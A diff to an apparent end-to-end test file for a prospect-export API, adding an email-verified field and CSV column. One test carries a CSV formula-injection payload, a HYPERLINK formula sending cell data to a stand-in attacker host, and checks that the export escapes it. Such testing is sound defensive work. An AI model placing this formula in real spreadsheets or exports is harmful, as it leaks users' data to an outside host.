@@ -47,6 +47,7 @@ describe("the first worked example, end to end", () => {
       {
         visitorId: "visitor-journey",
         email: null,
+        emailVerified: false,
         score: 50,
         class: "prospect",
         grade: null,
@@ -88,8 +89,8 @@ describe("the first worked example, end to end", () => {
     const csv = await api(`/api/sites/acme/prospects?date=${today}&format=csv`);
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const lines = (await csv.text()).trimEnd().split("\r\n");
-    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons");
-    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10$/);
+    expect(lines[0]).toBe("visitor_id,email,email_verified,score,class,grade,prospect_since,new,reasons");
+    expect(lines[1]).toMatch(/^visitor-journey,,no,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10$/);
     expect(lines).toHaveLength(3);
   });
 
@@ -132,7 +133,7 @@ describe("the first worked example, end to end", () => {
     });
     await track("acme", "visitor-0001", event("pageview"));
     const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
-    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7).join(",");
+    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(8).join(",");
     expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"") +5"');
   });
 });
